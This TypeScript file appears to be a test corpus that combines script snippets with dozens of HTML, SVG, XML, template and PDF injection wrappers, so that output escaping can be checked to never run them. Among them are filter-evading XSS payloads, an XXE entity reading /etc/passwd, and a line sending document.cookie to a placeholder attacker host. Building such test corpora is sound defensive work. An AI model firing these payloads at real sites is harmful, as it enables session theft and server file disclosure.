const SCRIPTS = [
  'alert(1)',
  'alert`1`',
  'top["al"+"ert"](1)',
  'fetch("//evil.example/"+document.cookie)',
  'import("data:text/javascript,alert(1)")',
  '\\u0061lert(1)',
] as const

const WRAPPERS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<img src="x" onerror="${script}"/>`,
  (script) => `"><svg onload=${script}>`,
  (script) => `'><svg/onload='${script}'>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<a href="jav&#x09;ascript:${script}">x</a>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="data:text/html,<script>${script}</script>">`,
  (script) => `<math><mi//xlink:href="data:x,<script>${script}</script>">`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror="${script}"></video>`,
  (script) => `<object data="javascript:${script}">`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<form action="javascript:${script}"><button>x</button></form>`,
  (script) => `<style>@import'javascript:${script}';</style>`,
  (script) => `<div style="background:url(javascript:${script})">`,
  (script) => `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  (script) => `<!--><script>${script}</script>-->`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) =>
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${script}</x>`,
  (script) => `<text xlink:href="#x">${script}</text>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => '${' + script + '}',
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `<ScRiPt>${script}</sCrIpT>`,
  (script) => `) Tj ET /JS (${script}) BT (`,
  (script) => `<< /S /JavaScript /JS (${script}) >>`,
]

/** Texts that every output must show literally, and never run or parse as markup: of HTML, SVG, XML, templates and PDF. */
export const MARKUP_CORPUS: readonly string[] = WRAPPERS.flatMap((wrap) => SCRIPTS.map(wrap))
